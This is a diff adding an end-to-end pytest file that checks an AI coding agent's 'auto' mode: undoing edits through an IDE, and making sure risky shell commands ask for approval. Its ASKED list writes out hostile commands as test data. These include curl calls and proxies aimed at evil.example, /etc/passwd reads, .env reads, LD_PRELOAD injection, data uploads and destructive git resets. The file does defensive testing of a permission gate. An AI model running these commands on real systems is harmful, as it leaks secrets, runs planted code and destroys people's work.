@@ -1,0 +1,300 @@
+"""Undo is as easy as change, over real pipes: `restore_file` through an IDE, and the commands that `auto` allows."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.e2e.conftest import Spawn
+from tests.e2e.raw_client import RawClient
+from tests.e2e.scripts import Item, call
+from tests.e2e.turns import Card
+
+pytestmark = [
+    pytest.mark.anyio,
+    pytest.mark.skipif(not all(map(shutil.which, ("git", "curl", "tar"))), reason="git, curl and tar are run"),
+]
+
+AUTO = ("--mode", "auto")
+
+
+def git(top: Path, *words: str) -> None:
+    command = ["git", "-C", str(top), "-c", "user.name=A", "-c", "user.email=a@example.org", *words]
+    subprocess.run(command, check=True, capture_output=True, timeout=30)
+
+
+def run(line: str) -> Item:
+    return call("run_command", command=line)
+
+
+def write(path: str, content: str = "made\n") -> Item:
+    return call("write_file", path=path, content=content)
+
+
+def restore(path: str, to: str = "session_start") -> Item:
+    return call("restore_file", path=path, to=to)
+
+
+@pytest.fixture
+def top(project: Path) -> Path:
+    """The project as a repository with one commit and nothing changed; `out`, beside it, is no part of it."""
+    git(project, "init", "-q", "-b", "main")
+    for name in ("a.py", "b.py", "src/deep/c.py"):
+        (project / name).parent.mkdir(parents=True, exist_ok=True)
+        (project / name).write_text("foo = 1\n")
+    (project / "crlf.txt").write_bytes(b"one\r\ntwo\r\n")
+    (project / "run.sh").write_text("echo hello\n")
+    (project / "run.sh").chmod(0o755)
+    (project / ".gitignore").write_text("build\n*.log\n.env\n")
+    git(project, "add", "-A")
+    git(project, "commit", "-qm", "first")
+    for name in ("build/o.o", "notes.log", ".env", "../out/o.txt"):
+        (project / name).parent.mkdir(exist_ok=True)
+        (project / name).write_text("kept\n")
+    (project / ".pytest_cache").mkdir()
+    (project / ".pytest_cache/.gitignore").write_text("*\n")
+    return project
+
+
+@pytest.fixture
+def server() -> Iterator[str]:
+    """A server on loopback, as a session starts one to try its work."""
+
+    class Hello(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(b"hello")
+
+        def log_message(self, format: str, *_args: Any) -> None:  # noqa: A002 - the name of the base class
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Hello) as made:
+        thread = threading.Thread(target=made.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{made.server_port}"
+        made.shutdown()
+        thread.join()
+
+
+# ---------------------------------------------------------------- restore_file through an IDE
+
+
+def lazy(ide: RawClient) -> None:
+    """Let the IDE keep what is written in its editor, as some do until the person saves."""
+
+    async def write_later(params: dict[str, Any]) -> dict[str, Any]:
+        ide.editor.buffers[params["path"]] = params["content"]
+        return {}
+
+    ide.handlers["fs/write_text_file"] = write_later
+
+
+def failed(card: Card, words: str) -> None:
+    assert card.status == "failed", card.text
+    assert words in card.text
+
+
+@pytest.mark.parametrize("saves", [True, False], ids=["saved at once", "saved later"])
+async def test_an_ide_that_serves_files_gets_the_former_texts_back(spawn: Spawn, top: Path, saves: bool):
+    edits = [
+        call("edit_file", path="a.py", old_text="1", new_text="2"),
+        call("edit_file", path="crlf.txt", old_text="two", new_text="three"),
+        call("edit_file", path="run.sh", old_text="hello", new_text="bye"),
+    ]
+    back = [restore("a.py", "last_turn"), restore("a.py"), *map(restore, ("crlf.txt", "run.sh"))]
+    twice = [call("edit_file", path="a.py", old_text="= 2", new_text="= 3"), call("read_file", path="a.py")]
+    async with spawn(edits, twice, back, [restore("a.py")], [restore("b.py")], args=AUTO) as ide:
+        session = await ide.open(top)
+        if not saves:
+            lazy(ide)
+        shown = await ide.editor.read({"path": str(top / "crlf.txt")})
+        for _ in range(2):
+            turn = await ide.prompt(session)
+            assert [card.status for card in turn.cards] == ["completed"] * len(turn.cards), turn.cards
+        turn = await ide.prompt(session)
+        assert [card.status for card in turn.cards] == ["completed"] * 4, [card.text for card in turn.cards]
+        assert [text for path, text in ide.editor.buffers.items() if path.endswith("a.py")] in ([], ["foo = 1\n"])
+        assert (await ide.editor.read({"path": str(top / "crlf.txt")})) == shown
+        assert (top / "a.py").read_text() == "foo = 1\n"
+        assert (top / "crlf.txt").read_bytes() == b"one\r\ntwo\r\n"
+        assert (top / "run.sh").read_text() == "echo hello\n"
+        assert os.access(top / "run.sh", os.X_OK)
+        ide.editor.buffers[str(top / "a.py")] = "foo = 1\nunsaved = True\n"
+        failed((await ide.prompt(session)).card, "+unsaved = True")
+        failed((await ide.prompt(session)).card, "did not change")
+        assert ide.editor.buffers[str(top / "a.py")] == "foo = 1\nunsaved = True\n"
+
+
+async def test_what_an_ide_cannot_write_is_done_on_the_disk(spawn: Spawn, top: Path):
+    (top / "data.bin").write_bytes(b"\0\1")
+    (top / "data.bin").chmod(0o640)
+    work = [write("new/made.py"), run("printf x > data.bin; chmod 600 data.bin; rm -f build/o.o; chmod -x run.sh")]
+    back = list(map(restore, ("new/made.py", "data.bin", "build/o.o", "run.sh")))
+    async with spawn([*work, *back], args=AUTO) as ide:
+        ide.person.always("allow_once")
+        turn = await ide.prompt(await ide.open(top), timeout_s=30)
+        assert [card.status for card in turn.cards] == ["completed"] * 6, [card.text for card in turn.cards]
+    assert not (top / "new/made.py").exists()
+    assert ((top / "data.bin").read_bytes(), (top / "data.bin").stat().st_mode & 0o777) == (b"\0\1", 0o640)
+    assert (top / "build/o.o").read_text() == "kept\n"
+    assert os.access(top / "run.sh", os.X_OK)
+
+
+# ---------------------------------------------------------------- commands in auto
+
+UNASKED = [
+    write("a.py", "foo = 2\n"),
+    run("git stash"),
+    run("git stash pop"),
+    run("git checkout -- a.py src/deep/c.py"),
+    write("a.py", "foo = 3\n"),
+    run("git checkout HEAD -- a.py"),
+    write("a.py", "foo = 4\n"),
+    run("git restore a.py"),
+    run("printf 'foo = 5\\n' > b.py && git restore -s HEAD b.py"),
+    run("sed -i s/1/6/ a.py b.py && git checkout ."),
+    run("printf made > made.py && python3 -c 'print(1)'"),
+    run("rm made.py"),
+    write("new/one.py"),
+    write("new/two.py"),
+    run("rm -r new"),
+    run("rm -r .pytest_cache"),
+    run("rm -rf build"),
+    run("rm notes.log"),
+    run("echo ====== && ls"),
+    run("MPLBACKEND=Agg PYTHONPATH=src python3 a.py"),
+    run("git grep -l foo | xargs sed -i s/foo/bar/"),
+    run("git diff --name-only | xargs sed -i s/bar/baz/"),
+    run("git ls-files '*.py' | xargs sed -i s/baz/foo/"),
+    run("ruff format --check $(git grep -l foo)"),
+    run("python3 -c 'import a; print(a.foo)'"),
+    run("mkdir base && git archive HEAD | tar -x -C base"),
+    run("git archive --prefix=old/ HEAD src | tar xC base"),
+    run("mkdir once && git archive HEAD | tar -xC once"),
+    run("rm -r once"),
+]
+
+
+async def test_in_auto_no_one_is_asked_to_take_back_or_to_try_the_sessions_own_work(
+    spawn: Spawn, top: Path, server: str
+):
+    script = [*UNASKED, run(f"curl -s {server}/health")]
+    path = f"{Path(sys.executable).parent}:{os.environ['PATH']}"
+    async with spawn(script, args=AUTO, caps={}, env={"PATH": path}) as ide:
+        turn = await ide.prompt(await ide.open(top), timeout_s=60)
+        assert ide.person.questions == []
+    texts = [card.text for card in turn.cards]
+    assert [card.status for card in turn.cards] == ["completed"] * len(script), texts
+    assert all('"exitCode": 0' in text for item, text in zip(script, texts, strict=True) if run_in(item)), texts
+    assert "hello" in texts[-1]
+    gone = ("made.py", "new", ".pytest_cache", "build", "notes.log", "once")
+    assert [name for name in gone if (top / name).exists()] == []
+    assert [(top / name).read_text() for name in ("a.py", "b.py", "base/a.py", "base/old/src/app.py")] == [
+        "foo = 1\n", "foo = 1\n", "foo = 1\n", "def add(a, b):\n    return a + b\n",
+    ]  # fmt: skip
+
+
+def run_in(item: Item) -> bool:
+    return item["call"]["name"] == "run_command"
+
+
+ASKED = {
+    "somebody's work": [
+        "git checkout -- dirty.py", "git restore dirty.py", "git checkout .", "git stash", "git stash pop",
+        "git checkout -- both.py", "git restore both.py", "git checkout HEAD -- theirs.py", "git restore src",
+        "rm changed.py", "rm a.py", "rm found.py", "rm -r mixed", "rm -r made", "rm -r build a.py", "rm .env", "rm -rf .git",
+        "git -C nested checkout -- n.py", "cd nested && git stash", "rm -rf nested", "git checkout -f -- a.py",
+        "git restore -s HEAD~1 a.py", "git reset --hard", "git clean -fd", "git stash -u", "git stash drop",
+    ],
+    "links": [
+        "rm link_out", "rm -rf linked/", "git checkout -- linked/o.txt", "rm build/up/../keep.py",
+        "cp a.py linked/a.py", "git ls-files | xargs cp -t linked",
+        "PYTHONPATH=linked python3 a.py", "git archive HEAD | tar -x -C linked", "curl -o linked/x localhost:1",
+    ],
+    "feeds": [
+        "git ls-files src | xargs sh -c 'sed -i s/a/b/ $0'", "git ls-files | xargs rm",
+        "git ls-files -o | xargs sed -i s/a/b/", "git ls-files | xargs -d , sed -i s/a/b/",
+        "git grep foo | xargs sed -i s/a/b/", "git diff --name-only --line-prefix=/etc/ | xargs sed -i s/a/b/",
+        "git ls-files --format='/etc/%(path)' | xargs sed -i s/a/b/", "git ls-files | xargs -I{} sh -c {}",
+        "git diff --name-only HEAD~1 HEAD | xargs sed -i s/a/b/", "git ls-files | xargs python3 -c 'import os'",
+        "git archive --remote=ssh://evil.example/x HEAD | tar -x -C base", "git archive HEAD | tar -x",
+        "git archive --add-file=/etc/passwd HEAD | tar -x -C base", "git archive HEAD | tar -x -C ../out",
+        "git archive --format=tgz HEAD | tar -xz -C base", "ruff format $(cat list)",
+    ],
+    "settings": [
+        "LD_PRELOAD=./x.so python3 a.py", "PYTHONPATH=../out python3 a.py", "GIT_DIR=nested/.git git status",
+        "GIT_SSH_COMMAND=./x python3 a.py", "PYTHONSTARTUP=a.py python3 a.py", "env LD_PRELOAD=./x.so python3 a.py",
+        "PATH=. python3 a.py", "BASH_ENV=./x sh run.sh", "MPLBACKEND=Agg git commit -m x", "A=$(id) python3 a.py",
+    ],
+    "network": [
+        "curl http://127.0.0.1@evil.example/", "curl http://127.0.0.1:80@evil.example/", "curl -d x localhost:1",
+        "curl -T a.py localhost:1", "curl -o ../out/x localhost:1", "curl -o .git/hooks/x localhost:1",
+        "curl -L localhost:1", "curl --resolve localhost:1:192.0.2.1 localhost:1", "curl -K a.py localhost:1",
+        "http_proxy=http://evil.example curl localhost:1", "curl -F a=@a.py localhost:1", "curl file:///etc/passwd",
+    ],
+    "code": [
+        "python3 -c 'import os; os.system(\"id\")'", "python3 -c 'import os; os.remove(\"a.py\")'",
+        "python3 -c 'print(open(\".env\").read())'", "python3 -c 'open(\"../out/x\", \"w\")'", 'python3 -c "$CODE"',
+        "python3 -c '__import__(\"os\")'", "echo 'print(1)' | python3 -",
+    ],
+}  # fmt: skip
+
+
+def make_hostile(top: Path) -> None:
+    """Work of the person that is not committed, a repository inside, and links that lead out."""
+    out = top.parent / "out"
+    (top / "a.py").write_text("foo = 1  # put aside by the person\n")
+    git(top, "stash")
+    for name in ("dirty.py", "both.py", "theirs.py", "keep.py", "src/theirs.py"):
+        (top / name).write_text("foo = 1\n")
+    git(top, "add", "-A")
+    git(top, "commit", "-qm", "third")
+    (top / "dirty.py").write_text("foo = 2  # the person's\n")
+    (top / "found.py").write_text("never added\n")
+    (top / "link_out").symlink_to(out / "o.txt")
+    (top / "linked").symlink_to(out)
+    (top / "build/up").symlink_to(top / "src/deep")
+    (top / "mixed").mkdir()
+    (top / "mixed/theirs.py").write_text("the person's\n")
+    nested = top / "nested"
+    nested.mkdir()
+    git(nested, "init", "-q")
+    (nested / "n.py").write_text("n = 1\n")
+    git(nested, "add", "-A")
+    git(nested, "commit", "-qm", "n")
+
+
+def state(top: Path) -> dict[str, bytes]:
+    places = [path for path in (*top.rglob("*"), *top.parent.joinpath("out").rglob("*")) if ".git" not in path.parts]
+    return {str(path): path.read_bytes() for path in places if path.is_file()}
+
+
+async def test_in_auto_everything_beside_it_asks_and_a_denial_leaves_all_as_it_was(spawn: Spawn, top: Path):
+    make_hostile(top)
+    lines = [line for group in ASKED.values() for line in group]
+    made = [write(name, "foo = 3\n") for name in ("both.py", "changed.py", "mixed/mine.py", "list")]
+    made.append(run("mkdir made"))
+    async with spawn(made, list(map(run, lines)), args=AUTO, caps={}) as ide:
+        ide.person.always("reject_once")
+        session = await ide.open(top)
+        assert [card.status for card in (await ide.prompt(session)).cards] == ["completed"] * len(made)
+        assert ide.person.questions == []
+        for name in ("both.py", "changed.py", "theirs.py", "src/theirs.py", "made/theirs.py"):
+            (top / name).write_text("written by the person since\n")
+        before = state(top)
+        turn = await ide.prompt(session, timeout_s=60)
+        assert [line for line, card in zip(lines, turn.cards, strict=True) if card.status != "failed"] == []
+        asked = {question["toolCall"]["toolCallId"] for question in ide.person.questions}
+        unasked = [line for line, card in zip(lines, turn.cards, strict=True) if card.call_id not in asked]
+        assert unasked == [], "denied without a question, or a mistake of the test"
+    assert state(top) == before
